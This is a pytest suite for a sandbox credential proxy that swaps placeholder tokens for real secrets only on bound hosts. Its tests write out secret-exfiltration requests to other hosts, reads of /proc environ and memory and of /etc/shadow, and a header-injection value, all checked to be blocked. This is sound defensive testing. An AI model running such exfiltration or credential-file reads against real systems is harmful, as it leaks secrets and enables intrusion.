# SPDX-License-Identifier: MIT
"""[credential NAME]: the command holds a placeholder; the proxy puts the
secret in its place only in requests to the credential's hosts, over HTTPS
(intercepted with the run's CA) and plain HTTP, and refuses a placeholder on
its way anywhere else.

The upstream servers are the network tests' (test_network.World): good.test
answers HTTPS on 443 with a certificate from a test CA that the proxy trusts
through [network] upstream_ca, and /seen answers with what it received
(hex-encoded, which the proxy's reflection scan does not take for the
secret), so every assertion below is about what the upstream actually got.
/headers echoes it as it is: what the reflection tests use.
"""
import base64
import os
import re
import shutil
import subprocess
import tempfile
import time

import pytest

from conftest import NOBODY, sanitized
from test_network import CLIENT_PRELUDE, MODES, PUB, NetBox

SECRET = "ghp_realSecretValue0123456789abcdef"  # upstream.py's GIT_SECRET
OTHER_SECRET = "sk-other-0000-secret-for-other-test"
ALLOW = "allow = good.test other.test other.test:8080 wrong.test *.good.test"
CURL = "curl -sS -m 10 "


@pytest.fixture(params=MODES, ids=["root-ns", "root-broker", "user-ns", "user-broker"])
def cred(request, world):
    b = NetBox(world, *request.param)
    yield b
    b.cleanup()


@pytest.fixture
def one(world):
    """One mode, for behaviour that does not depend on the mechanism."""
    b = NetBox(world, "nobody", "namespace")
    yield b
    b.cleanup()


def policy(box, creds=None, network="", upstream_ca=True):
    net = ALLOW + "\n" + network
    if upstream_ca:
        net += "\nupstream_ca = %s" % box.path("bin", "ca.pem")
    if creds is None:
        creds = "[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n" \
                "hosts = good.test\n"
    return box.net_policy(net, creds)


def run(box, script, pol, env=None, **kw):
    e = {"RF_SECRET": SECRET}
    e.update(env or {})
    return box.sh(script, pol, env=e, **kw)


def unhex(text):
    """Each hex:... that /seen answers, replaced by what it stands for."""
    return re.sub(r"hex:([0-9a-f]+)", lambda m: bytes.fromhex(m.group(1)).decode(), text)


def audit(box):
    with open(box.audit) as f:
        return f.read()


def test_https_to_the_bound_host_carries_the_secret(cred):
    p = policy(cred)
    r = run(cred, 'echo "token=$GITHUB_TOKEN"; ' + CURL +
            '-H "Authorization: Bearer $GITHUB_TOKEN" "https://good.test/seen?key=$GITHUB_TOKEN"',
            p)
    assert r.returncode == 0, r.stderr
    r.stdout = unhex(r.stdout)
    token = re.search(r"token=(\S+)", r.stdout).group(1)
    assert re.fullmatch(r"ringfence_github_[A-Za-z0-9]{24}", token), token
    assert "Authorization: Bearer %s" % SECRET in r.stdout
    assert "GET /seen?key=%s\n" % SECRET in r.stdout
    ev = cred.events("cred.inject")
    assert {(e["credential"], e["where"], e["host"]) for e in ev} == {
        ("github", "header", "good.test"), ("github", "target", "good.test")}
    assert all(e["proto"] == "https" for e in ev)
    assert SECRET not in audit(cred) and SECRET not in r.stderr


def test_placeholders_are_unique_per_run(one):
    p = policy(one)
    a = run(one, "echo $GITHUB_TOKEN", p).stdout
    b = run(one, "echo $GITHUB_TOKEN", p).stdout
    assert a != b and a.startswith("ringfence_github_")


def test_plain_http_forward_and_socks_carry_it_too(one):
    # only where the credential's section allows plain HTTP
    p = policy(one, creds="[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n"
               "hosts = good.test\nplaintext = yes\n")
    r = run(one, CURL + '-H "X-Api-Key: $GITHUB_TOKEN" http://good.test/seen; ' +
            CURL + '--proxy "$ALL_PROXY" -H "X-Api-Key: $GITHUB_TOKEN" http://good.test/seen',
            p)
    assert r.returncode == 0, r.stderr
    r.stdout = unhex(r.stdout)
    assert r.stdout.count("X-Api-Key: %s" % SECRET) == 2, r.stdout
    assert {e["proto"] for e in one.events("cred.inject")} == {"http"}


def test_basic_authorization_is_rewritten_inside(one):
    p = policy(one)
    r = run(one, CURL + '-u "x-access-token:$GITHUB_TOKEN" https://good.test/seen', p)
    assert r.returncode == 0, r.stderr
    r.stdout = unhex(r.stdout)
    want = base64.b64encode(("x-access-token:" + SECRET).encode()).decode()
    assert "Authorization: Basic %s" % want in r.stdout
    assert [e["where"] for e in one.events("cred.inject")] == ["basic"]


def test_operator_placeholder_and_file_source(one):
    secret_file = one.write("secret.txt", OTHER_SECRET + "\n", mode=0o600, owner=NOBODY)
    p = policy(one, creds="[credential github]\nenv = GITHUB_TOKEN\nsource = file:%s\n"
               "hosts = good.test\nplaceholder = ghp_0000000000000000000000placeholder\n"
               % secret_file)
    r = run(one, 'echo "$GITHUB_TOKEN"; ' + CURL +
            '-H "Authorization: token $GITHUB_TOKEN" https://good.test/seen', p)
    assert r.returncode == 0, r.stderr
    r.stdout = unhex(r.stdout)
    assert r.stdout.startswith("ghp_0000000000000000000000placeholder\n")
    # read before the privilege drop, the line end dropped
    assert "Authorization: token %s\n" % OTHER_SECRET in r.stdout


def test_exfiltration_attempts_are_refused(cred):
    asked = len(cred.world.dns_queries())
    p = policy(cred, creds="[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n"
               "hosts = good.test\nplaintext = yes\n[credential other]\nenv = OTHER_TOKEN\n"
               "source = env:RF_OTHER\nhosts = other.test:8080\n")
    script = CLIENT_PRELUDE + r'''
import base64, socket, urllib.parse
T = os.environ["GITHUB_TOKEN"]
def status(data):
    out = ask(data)
    return out.split(b"\r\n", 1)[0].decode() if out else "closed"
tries = {
    "header": b"GET http://other.test/headers HTTP/1.1\r\nHost: other.test\r\nX-T: %s\r\n\r\n" % T.encode(),
    "query": b"GET http://other.test/headers?t=%s HTTP/1.1\r\nHost: other.test\r\n\r\n" % T.encode(),
    "percent": b"GET http://other.test/headers?t=%s HTTP/1.1\r\nHost: other.test\r\n\r\n"
        % urllib.parse.quote(T, safe="").replace("_", "%5F").encode(),
    "lowercase": b"GET http://other.test/headers HTTP/1.1\r\nHost: other.test\r\nX-T: %s\r\n\r\n" % T.lower().encode(),
    "basic": b"GET http://other.test/headers HTTP/1.1\r\nHost: other.test\r\nAuthorization: Basic %s\r\n\r\n"
        % base64.b64encode(b"x:" + T.encode()),
    "another credential's host": b"GET http://other.test:8080/headers HTTP/1.1\r\nHost: other.test\r\nX-T: %s\r\n\r\n" % T.encode(),
    "host name": b"GET http://%s.good.test/ HTTP/1.1\r\nHost: x\r\n\r\n" % T.lower().encode(),
    "connect": b"CONNECT %s.good.test:443 HTTP/1.1\r\nHost: x\r\n\r\n" % T.lower().encode(),
}
for name, data in tries.items():
    print(name, "=", status(data))
# SOCKS5 to an allowed host, a plain request carrying the placeholder
s = dial()
s.sendall(b"\x05\x01\x00")
s.recv(2)
s.sendall(b"\x05\x01\x00\x03\x0aother.test\x00\x50")
print("socks reply =", s.recv(10)[1])
s.sendall(b"GET /headers?t=%s HTTP/1.1\r\nHost: other.test\r\n\r\n" % T.encode())
print("socks =", read_all(s)[:20])
# the same through a tunnel granted by port, in a stream that is not HTTP
s = dial()
s.sendall(b"\x05\x01\x00")
s.recv(2)
s.sendall(b"\x05\x01\x00\x03\x0aother.test\x1f\x90")
print("socks 8080 reply =", s.recv(10)[1])
s.sendall(b"AUTH %s\r\n" % T.encode())
print("opaque stream =", read_all(s)[:20])
# a kept-alive connection: the second request goes to another host
s = dial()
s.sendall(b"GET http://good.test/seen HTTP/1.1\r\nHost: good.test\r\nX-T: %s\r\n\r\n"
          b"GET http://other.test/headers HTTP/1.1\r\nHost: other.test\r\nX-T: %s\r\n\r\n"
          % (T.encode(), T.encode()))
out = read_all(s).decode("latin-1")
import re
import shutil
print("keepalive =", re.findall(r"HTTP/1\.1 \d+ [A-Za-z]+", out))
print("first carried it:", "@SECRET@".encode().hex() in out)
'''.replace("@SECRET@", SECRET)
    cred.write("work/client.py", script)
    r = cred.run(["/usr/bin/python3", "client.py"], policy=p,
                 env={"RF_SECRET": SECRET, "RF_OTHER": OTHER_SECRET})
    assert r.returncode == 0, r.stderr
    out = dict(l.split(" = ", 1) for l in r.stdout.splitlines() if " = " in l)
    for name in ("header", "query", "percent", "lowercase", "basic", "another credential's host",
                 "host name", "connect"):
        assert out[name].startswith("HTTP/1.1 403"), (name, r.stdout)
    # plain HTTP in a tunnel is read request by request: refused in it
    assert out["socks reply"] == "0" and out["socks"] == "b'HTTP/1.1 403 Forbidd'", r.stdout
    # a stream that is not HTTP is judged by its first bytes, and closed
    assert out["socks 8080 reply"] == "0" and out["opaque stream"] == "b''", r.stdout
    assert out["keepalive"] == "['HTTP/1.1 200 OK', 'HTTP/1.1 403 Forbidden']", r.stdout
    assert "first carried it: True" in r.stdout
    blocks = cred.events("cred.block")
    assert {e["where"] for e in blocks} >= {"header", "target", "basic", "host", "stream"}
    assert all(e["credential"] == "github" for e in blocks), blocks
    assert SECRET not in audit(cred) and OTHER_SECRET not in audit(cred)
    # the placeholder in a host name never reached the DNS server
    token = [e for e in blocks if e["where"] == "host"]
    assert token and not any("ringfence_github" in q for q in cred.world.dns_queries()[asked:])
    assert "placeholder of credential github" in r.stderr  # the exit summary


def test_python_node_and_git_clients(cred):
    p = policy(cred)
    script = r'''
import json, os, requests, urllib.request
T = os.environ["GITHUB_TOKEN"]
S = "%s"
s = requests.Session()
for i in range(30):
    r = s.get("https://good.test/seen", headers={"Authorization": "Bearer " + T})
    assert r.status_code == 200 and ("Bearer " + S).encode().hex() in r.text, r.text
print("requests ok")
req = urllib.request.Request("https://good.test/seen", headers={"X-Key": T})
body = urllib.request.urlopen(req, timeout=10).read().decode()
print("urllib ok", ("X-Key: " + S).encode().hex() in body)
''' % SECRET
    cred.write("work/client.py", script)
    r = cred.run(["/usr/bin/python3", "client.py"], policy=p, env={"RF_SECRET": SECRET})
    assert r.returncode == 0, r.stderr
    assert "requests ok" in r.stdout and "urllib ok True" in r.stdout
    # thirty requests, one tunnel: keep-alive inside the interception
    assert len([e for e in cred.events("net.allow") if e["proto"] == "connect"]) <= 2
    assert len(cred.events("cred.inject")) == 31

    r = run(cred, 'git -c credential.helper= clone -q '
            '"https://x-access-token:$GITHUB_TOKEN@good.test/private/repo.git" out && '
            'cat out/README', p, env={"HOME": cred.work})
    assert r.returncode == 0, r.stderr
    assert r.stdout == "through the proxy\n"
    assert "basic" in {e["where"] for e in cred.events("cred.inject")}

    if not os.path.exists("/usr/bin/node"):
        pytest.skip("node is not installed")
    cred.write("work/client.js", NODE_CLIENT)
    r = cred.run(["/usr/bin/node", "client.js"], policy=p, env={"RF_SECRET": SECRET})
    assert r.returncode == 0, r.stderr
    assert "Authorization: Bearer %s" % SECRET in unhex(r.stdout)


# Node 20 reads no proxy variables: a CONNECT by hand, then TLS over it,
# trusting the CA through NODE_EXTRA_CA_CERTS as any Node program would.
NODE_CLIENT = r"""
const http = require("http"), tls = require("tls");
const [host, port] = process.env.HTTPS_PROXY.split("//")[1].split(":");
const req = http.request({host, port, method: "CONNECT", path: "good.test:443"});
req.on("connect", (res, socket) => {
  const s = tls.connect({socket, servername: "good.test"}, () => {
    s.write("GET /seen HTTP/1.1\r\nHost: good.test\r\nAuthorization: Bearer " +
            process.env.GITHUB_TOKEN + "\r\nConnection: close\r\n\r\n");
  });
  let out = "";
  s.on("data", d => out += d);
  s.on("end", () => { console.log(out); process.exit(0); });
  s.on("error", e => { console.error(e.message); process.exit(1); });
});
req.end();
"""


def test_large_bodies_chunked_and_websocket_inside_tls(one):
    p = policy(one)
    script = r'''
import hashlib, os, requests, socket, ssl, base64
T = os.environ["GITHUB_TOKEN"]
s = requests.Session()
data = os.urandom(5 * 1024 * 1024)
r = s.post("https://good.test/upload", data=data, headers={"X-T": T})
print("cl", r.text.strip() == "%d %s" % (len(data), hashlib.sha256(data).hexdigest()))
r = s.post("https://good.test/upload", data=iter([data[:1000000], data[1000000:]]))
print("chunked up", r.text.strip() == "%d %s" % (len(data), hashlib.sha256(data).hexdigest()))
r = s.get("https://good.test/big?n=20000000")
print("big", len(r.content) == 20000000)
r = s.get("https://good.test/chunked")
print("chunked down", r.text.count("line") == 50)
# WebSocket through the intercepted stream
p = os.environ["HTTPS_PROXY"].split("//")[1].rsplit(":", 1)
c = socket.create_connection((p[0], int(p[1])))
c.sendall(b"CONNECT good.test:443 HTTP/1.1\r\nHost: good.test:443\r\n\r\n")
assert c.recv(100).startswith(b"HTTP/1.1 200")
ctx = ssl.create_default_context()
w = ctx.wrap_socket(c, server_hostname="good.test")
key = base64.b64encode(os.urandom(16)).decode()
w.sendall(("GET /ws HTTP/1.1\r\nHost: good.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           "Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\nX-T: %s\r\n\r\n" % (key, T)).encode())
head = b""
while b"\r\n\r\n" not in head:
    head += w.recv(1)
print("ws", head.split(b"\r\n")[0].decode())
msg = b"hello"
mask = b"\x01\x02\x03\x04"
w.sendall(bytes([0x81, 0x80 | len(msg)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(msg)))
frame = w.recv(100)
print("ws echo", frame[2:].decode())
'''
    one.write("work/client.py", script)
    r = one.run(["/usr/bin/python3", "client.py"], policy=p, env={"RF_SECRET": SECRET},
                timeout=120)
    assert r.returncode == 0, r.stderr
    for line in ("cl True", "chunked up True", "big True", "chunked down True",
                 "ws HTTP/1.1 101 Switching Protocols", "ws echo echo:hello"):
        assert line in r.stdout, r.stdout


def test_bad_upstream_certificate_is_a_clear_502(one):
    # wrong.test is served good.test's certificate: the name does not match
    p = policy(one, creds="[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n"
               "hosts = good.test wrong.test\n")
    r = run(one, CURL + "https://wrong.test/headers -o /dev/null -w '%{http_code}\\n'", p)
    assert r.stdout.strip() == "502", (r.stdout, r.stderr)
    err = [e for e in one.events("net.error") if "certificate" in e["reason"]]
    assert err and "hostname mismatch" in err[0]["reason"], one.events()
    # without upstream_ca the test CA is unknown: refused the same way
    p = policy(one, upstream_ca=False)
    r = run(one, CURL + "https://good.test/headers -o /dev/null -w '%{http_code}\\n'", p)
    assert r.stdout.strip() == "502", (r.stdout, r.stderr)
    assert any("unable to get local issuer certificate" in e["reason"]
               for e in one.events("net.error"))


def test_upstream_sessions_resume_only_for_their_own_name(one):
    """A new intercepted connection resumes the TLS session that a verified
    one to the same host left (netproxy/resume.c): no chain to verify again.
    A session is offered to its own name only: wrong.test, served by the
    same server (which takes good.test's tickets) with good.test's
    certificate, is still refused once good.test's session is kept."""
    p = policy(one, creds="[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n"
               "hosts = good.test wrong.test\n")
    r = run(one, CURL + "https://good.test/resumed; " + CURL + "https://good.test/resumed; " +
            CURL + "https://wrong.test/resumed -o /dev/null -w '%{http_code}\\n'", p)
    assert r.stdout.splitlines() == ["resumed False", "resumed True", "502"], (r.stdout, r.stderr)
    err = [e for e in one.events("net.error") if "certificate" in e["reason"]]
    assert err and "hostname mismatch" in err[0]["reason"], one.events()


def test_a_client_that_does_not_trust_the_ca(one):
    p = policy(one)
    r = run(one, CURL + "--cacert /etc/ssl/certs/ca-certificates.crt https://good.test/", p)
    assert r.returncode == 60, (r.returncode, r.stderr)  # curl: peer certificate refused
    err = [e for e in one.events("net.error") if "TLS handshake with the client" in e["reason"]]
    assert err and "unknown ca" in err[0]["reason"], one.events()


def test_unbound_hosts_stay_opaque_and_sni_must_match(one):
    script = CLIENT_PRELUDE + r'''
import ssl, sys
def tunnel(sni):
    s = dial()
    s.sendall(b"CONNECT good.test:443 HTTP/1.1\r\nHost: good.test:443\r\n\r\n")
    assert s.recv(100).startswith(b"HTTP/1.1 200")
    ctx = ssl.create_default_context(cafile=sys.argv[1])  # the test CA only
    ctx.check_hostname = False
    try:
        ctx.wrap_socket(s, server_hostname=sni)
        return "ok"
    except (ssl.SSLError, OSError):
        return "refused"
print("fronted =", tunnel("evil.test"))
print("plain =", tunnel("good.test"))
'''
    one.write("work/client.py", script)
    ca = one.path("bin", "ca.pem")
    # no credential for good.test: the tunnel is opaque, the upstream's own
    # certificate (the test CA's) reaches the client; a TLS name other than
    # the CONNECT target is refused
    r = one.run(["/usr/bin/python3", "client.py", ca], policy=policy(one, creds=""))
    assert r.returncode == 0, r.stderr
    assert "fronted = refused" in r.stdout and "plain = ok" in r.stdout, r.stdout
    assert [e for e in one.events("net.deny") if "TLS names evil.test" in e["reason"]]
    # bound: the run's CA answers, which the test CA does not verify
    r = one.run(["/usr/bin/python3", "client.py", ca], policy=policy(one),
                env={"RF_SECRET": SECRET})
    assert "fronted = refused" in r.stdout and "plain = refused" in r.stdout, r.stdout


def test_the_command_cannot_read_the_secret(box_env):
    box, p = box_env
    script = r'''
import glob, os
S = bytes.fromhex("%s")  # a piece of the secret, not in any environment
leaks = []
for k, v in os.environ.items():
    if S in v.encode():
        leaks.append("env " + k)
for f in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + [
        os.environ["SSL_CERT_FILE"]]:
    try:
        if S in open(f, "rb").read():
            leaks.append(f)
    except OSError:
        pass
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            with open("/proc/%%s/mem" %% pid, "rb") as m:
                m.read(1)
            leaks.append("mem " + pid)
        except OSError:
            pass
print("leaks:", leaks)
''' % SECRET[4:].encode().hex()
    box.write("work/look.py", script)
    r = box.run(["/usr/bin/python3", "look.py"], policy=p,
                env={"RF_SECRET": SECRET, "GH_COPY": "prefix-" + SECRET})
    assert r.returncode == 0, r.stderr
    assert "leaks: []" in r.stdout, r.stdout


def _memory_holds(pid, needles):
    """The needles found in the readable memory of PID (read as root, from
    outside the sandbox: init is not dumpable).  Mappings over 1 GiB are
    passed over: only a sanitizer's reserved shadow and heap are that large
    (under ASan this test judges less; the plain build is the one it is
    for)."""
    found = set()
    keep = max(len(n) for n in needles) - 1
    with open("/proc/%d/maps" % pid) as f:
        maps = f.read().splitlines()
    with open("/proc/%d/mem" % pid, "rb", 0) as mem:
        for line in maps:
            fields = line.split()
            lo, hi = (int(x, 16) for x in fields[0].split("-"))
            if "r" not in fields[1] or fields[-1] in ("[vvar]", "[vsyscall]") or \
                    hi - lo > 1 << 30:
                continue
            tail = b""
            for at in range(lo, hi, 4 << 20):
                try:
                    mem.seek(at)
                    data = tail + mem.read(min(4 << 20, hi - at))
                except OSError:
                    break
                found.update(n for n in needles if n in data)
                tail = data[-keep:]
    return found


@pytest.mark.parametrize("source", ["env", "file"])
def test_init_and_the_command_hold_no_secret_in_memory(cred, source):
    """The supervisor reads the secrets before it forks init: neither init
    (which lives as long as the sandbox) nor the command may find one in
    memory copied over the fork, raw or base64-encoded (the proxy's
    needles), while the command runs."""
    if source == "env" and sanitized(cred.ringfence):
        # the sanitizer's runtime keeps its own copy of the initial
        # environment (read at start, before ringfence scrubs it)
        pytest.skip("a sanitized build holds a copy of the initial environment")
    creds = None
    if source == "file":
        owner = NOBODY if cred.user == "nobody" else None
        secret_file = cred.write("secret", SECRET + "\n", mode=0o600, owner=owner)
        creds = "[credential github]\nenv = GITHUB_TOKEN\nsource = file:%s\n" \
                "hosts = good.test\n" % secret_file
    p = policy(cred, creds=creds)
    raw = SECRET.encode()
    needles = {raw, raw[4:], base64.b64encode(raw)[:40]}
    proc = cred.popen(["sh", "-c", 'echo "ready $$"; read x || :'], policy=p,
                      env={"RF_SECRET": SECRET} if source == "env" else None,
                      stdin=subprocess.PIPE,
                      stdout=subprocess.PIPE, text=True)
    try:
        line = proc.stdout.readline()
        assert line.startswith("ready"), line
        # the command, as this host numbers it: the one process below
        # init, a ringfence process forked by the supervisor
        procs = {}
        for d in os.listdir("/proc"):
            if d.isdigit():
                try:
                    with open("/proc/%s/stat" % d) as f:
                        stat = f.read()
                    procs[int(d)] = (int(stat.rsplit(")", 1)[1].split()[1]),
                                     os.readlink("/proc/%s/exe" % d))
                except OSError:
                    pass
        below = {proc.pid}
        for _ in range(4):
            below |= {pid for pid, (pp, _exe) in procs.items() if pp in below}
        rf = os.path.realpath(cred.ringfence)
        inits = [pid for pid, (pp, exe) in procs.items() if pp == proc.pid and exe == rf]
        cmds = [pid for pid, (pp, exe) in procs.items()
                if pp in inits and pid in below and exe != rf]
        assert len(cmds) == 1 and len(inits) >= 1, (inits, cmds)
        init = procs[cmds[0]][0]
        # init's re-masker, where it has one (a child of its own forked
        # before its Landlock domain: without a network namespace)
        helpers = [pid for pid, (pp, exe) in procs.items() if pp == init and exe == rf]
        # positive control: the supervisor holds the secret, and the scan
        # finds it there
        assert raw in _memory_holds(proc.pid, needles)
        assert _memory_holds(init, needles) == set(), "init"
        assert _memory_holds(cmds[0], needles) == set(), "the command"
        for h in helpers:
            assert _memory_holds(h, needles) == set(), "init's re-masker"
    finally:
        proc.stdin.close()
        proc.wait(timeout=20)
    assert proc.returncode == 0


@pytest.fixture(params=[("root", "namespace", "on"), ("nobody", "broker", "off")],
                ids=["root-ns", "user-nons"])
def box_env(request, world):
    user, iso, ns = request.param
    b = NetBox(world, user, iso, namespaces=ns)
    # GH_COPY holds the secret too and is scrubbed, though env_keep lets it
    # through
    p = b.net_policy(ALLOW + "\nupstream_ca = %s" % b.path("bin", "ca.pem"),
                     "[process]\nenv_keep = PATH HOME LANG GH_COPY\n"
                     "[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n"
                     "hosts = good.test\n")
    yield b, p
    b.cleanup()


def test_supervisor_environment_is_scrubbed_and_bundle_removed(one):
    p = policy(one)
    # the command lives until the test closes its stdin (it read what it
    # needed by then)
    proc = one.popen(["sh", "-c", 'echo "$SSL_CERT_FILE"; read x'], policy=p,
                     env={"RF_SECRET": SECRET}, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                     text=True)
    bundle = proc.stdout.readline().strip()
    time.sleep(0.3)
    assert os.path.exists(bundle)
    st = os.stat(bundle)
    assert st.st_mode & 0o777 == 0o644
    with open(bundle) as f:
        pem = f.read()
    assert "BEGIN CERTIFICATE" in pem and SECRET not in pem
    # the supervisor: setpriv execs ringfence, so its pid is proc.pid
    with open("/proc/%d/environ" % proc.pid, "rb") as f:
        env = f.read()
    assert SECRET.encode() not in env and SECRET[4:].encode() not in env
    with open("/proc/%d/status" % proc.pid) as f:
        assert "ringfence" in f.read()
    proc.stdin.close()
    proc.wait(timeout=20)
    assert not os.path.exists(bundle) and not os.path.exists(os.path.dirname(bundle))


def test_the_ca_is_constrained_to_the_bound_hosts(one):
    p = policy(one)
    one.write("work/last.py", "import os\n"
              "pem = open(os.environ['SSL_CERT_FILE']).read()\n"
              "print('-----BEGIN' + pem.split('-----BEGIN')[-1], end='')\n")
    r = run(one, "/usr/bin/python3 last.py | openssl x509 -noout -text", p)
    assert r.returncode == 0, r.stderr
    text = r.stdout
    assert "ringfence interception CA" in text
    assert re.search(r"Permitted:\s+DNS:good.test\s+Excluded:\s+IP:0.0.0.0/0.0.0.0", text), text
    assert "CA:TRUE, pathlen:0" in text
    assert "ASN1 OID: prime256v1" in text


BAD = [
    ("missing env", "source = env:RF_NOT_SET", {}, "RF_NOT_SET is not set"),
    ("empty env", "source = env:RF_SECRET", {"RF_SECRET": ""}, "the secret is empty"),
    ("missing file", "source = file:/nonexistent/secret", {}, "No such file"),
    ("empty file", "source = file:EMPTY", {}, "the secret is empty"),
    ("unreadable file", "source = file:UNREADABLE", {}, "Permission denied"),
    ("line break", "source = env:RF_SECRET", {"RF_SECRET": "a\r\nX-Evil: 1"},
     "control character"),
]


@pytest.mark.parametrize("name,source,env,msg", BAD, ids=[b[0] for b in BAD])
def test_bad_secrets_refuse_to_start(one, name, source, env, msg):
    empty = one.write("empty", "")
    unreadable = one.write("unreadable", "secret\n", mode=0o600)
    source = source.replace("EMPTY", empty).replace("UNREADABLE", unreadable)
    p = policy(one, creds="[credential github]\nenv = GITHUB_TOKEN\n%s\nhosts = good.test\n"
               % source)
    r = one.sh("echo ran", p, env=env)
    assert r.returncode == 125 and r.stdout == "", (r.stdout, r.stderr)
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1 and "[credential github]" in lines[0] and msg in lines[0], r.stderr
    assert re.match(r".*policy\.ini:\d+: ", lines[0]), lines[0]


@pytest.mark.parametrize("namespaces", ["on", "off"])
def test_a_bad_upstream_ca_refuses_to_start(world, namespaces):
    """The CA is made once init is forked (while it sets up): a failure
    there still says one line, and the command never starts."""
    one = NetBox(world, "nobody", "namespace" if namespaces == "on" else "broker",
                 namespaces=namespaces)
    try:
        bad = one.write("bin/bad.pem", "not a certificate\n")

        def pol(ca):
            return one.net_policy(
                ALLOW + "\nupstream_ca = %s" % ca,
                "[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n"
                "hosts = good.test\n[filesystem]\nprivate_tmp = yes\n")
        r = run(one, "echo ran", pol(bad))
        assert r.returncode == 125 and "ran" not in r.stdout
        assert "upstream_ca" in r.stderr and bad in r.stderr
        assert len(r.stderr.strip().splitlines()) == 1, r.stderr
        # positive control: the same policy with a good CA runs
        r = run(one, "echo ran", pol(one.path("bin", "ca.pem")))
        assert r.returncode == 0 and r.stdout.strip() == "ran", r.stdout + r.stderr
    finally:
        one.cleanup()


def test_optional_credential_without_its_secret(one):
    # signed in another way: the run goes on, and the variable never passes
    # through from the caller, even when env_keep names it
    p = one.net_policy(ALLOW, "[process]\nenv_keep = PATH HOME GITHUB_TOKEN\n"
                       "[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_NOT_SET\n"
                       "hosts = good.test\noptional = yes\n")
    r = one.sh('echo "token=${GITHUB_TOKEN-unset} ca=${SSL_CERT_FILE-none}"', p,
               env={"GITHUB_TOKEN": "caller-value"})
    assert r.returncode == 0, r.stderr
    assert r.stdout == "token=unset ca=none\n"


def test_leaf_certificate_is_cached_per_host(one):
    # each leaf has a random serial: the same certificate twice is the cache
    script = CLIENT_PRELUDE + r'''
import ssl
def leaf():
    s = dial()
    s.sendall(b"CONNECT good.test:443 HTTP/1.1\r\nHost: good.test:443\r\n\r\n")
    assert s.recv(100).startswith(b"HTTP/1.1 200")
    w = ssl.create_default_context().wrap_socket(s, server_hostname="good.test")
    return w.getpeercert(binary_form=True)
a, b = leaf(), leaf()
print("same" if a == b else "different", len(a))
'''
    one.write("work/client.py", script)
    r = one.run(["/usr/bin/python3", "client.py"], policy=policy(one), env={"RF_SECRET": SECRET})
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith("same "), r.stdout


def test_a_short_secret_leaves_other_variables_alone(one):
    # "bin" is in PATH: only its own variable is scrubbed, so PATH survives
    p = policy(one)
    r = one.sh('echo "$GITHUB_TOKEN PATH=$PATH"', p, env={"RF_SECRET": "bin"})
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith("ringfence_github_")
    assert "PATH=/usr/local/bin:/usr/bin:/bin" in r.stdout, r.stdout


# Every event the audit log has (supervisor/audit.c and its callers), in one
# run, each line parsed strictly (conftest.audit_events: no key twice, UTF-8).
# cred.error (a source = cmd: that fails) needs a command of its own: parsed
# the same way in test_cmd_source_failing_later_is_a_502_naming_the_credential.
EVERY_EVENT = {"start", "exec", "exit", "net.allow", "net.close", "net.deny", "net.error",
               "cred.inject", "cred.block", "cred.reflect", "audit.suppressed",
               "protect.blocked", "protect.git_dropped", "fs.deny"}

EVERY_EVENT_CLIENT = r"""
import subprocess, sys
if sys.argv[1] == "broker":
    try:  # the connect broker refuses a direct connection and logs it
        socket.create_connection((%r, 80), timeout=5)
    except OSError:
        pass
# more refusals than the log takes at once (a burst of 1,000, then 200 a
# second): 3,000, a hundred at a time, so that the client's own pace (a
# sanitized build, a loaded machine) does not stay under the rate
for i in range(30):
    batch = [dial() for _ in range(100)]
    for s in batch:
        s.sendall(b"CONNECT never.test:443 HTTP/1.1\r\nHost: never.test:443\r\n\r\n")
    for s in batch:
        read_all(s)
        s.close()
""" % PUB


def test_every_audit_event_is_strict_json(cred):
    r = subprocess.run(["git", "init", "-q", cred.work], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    if cred.user == "nobody":
        subprocess.run(["chown", "-R", "%d:%d" % (NOBODY, NOBODY), cred.work], check=True)
    p = policy(cred, network="allow = nowhere.test")
    cred.write("work/client.py", CLIENT_PRELUDE + EVERY_EVENT_CLIENT)
    hdr = '-H "Authorization: Bearer $GITHUB_TOKEN" '
    r = run(cred, CURL + hdr + "https://good.test/seen >/dev/null; " +
            CURL + hdr + "https://good.test/headers >/dev/null; " +
            CURL + hdr + "http://other.test/headers >/dev/null; " +
            CURL + "http://nowhere.test/ >/dev/null; " +
            CURL + "-k https://wrong.test/hello >/dev/null; " +
            "/usr/bin/python3 client.py %s; " % cred.isolation +
            "echo '{}' > .mcp.json; rm .git/HEAD; echo done", p, timeout=120)
    assert "done" in r.stdout, r.stderr
    events = cred.events()
    exe = [e for e in events if e["event"] == "exec"]
    assert len(exe) == 1 and exe[0]["command_pid"] > 0 and exe[0]["pid"] > 0
    if cred.isolation == "broker":
        assert any(e.get("proto") == "capture" for e in cred.events("net.deny")), events
    # --trace, in a run of its own (it slows the client above below the
    # pace that fills the rate limit): a refused read of a denied file,
    # with the key that denies it
    r = run(cred, "cat /etc/shadow 2>/dev/null; echo done", p, opts=["--trace"])
    assert "done" in r.stdout, r.stderr
    events = cred.events()
    seen = {e["event"] for e in events}
    assert EVERY_EVENT <= seen, (EVERY_EVENT - seen, r.stderr)
    fs = [e for e in events if e["event"] == "fs.deny" and e["path"] == "/etc/shadow"]
    assert fs and fs[0]["access"] == "read" and fs[0]["key"] == "filesystem.deny", events


def test_summary_hint_names_the_key_that_grants(one):
    """The exit summary says which key would let each kind of refusal
    through, and no key for kinds that did not happen."""
    p = policy(one)
    hdr = '-H "X-T: $GITHUB_TOKEN" '
    r = run(one, CURL + hdr + "http://other.test/headers >/dev/null", p)
    summary = [l for l in r.stderr.splitlines() if "proxy blocked" in l]
    assert len(summary) == 1, r.stderr
    assert "[credential github] hosts" in summary[0], summary
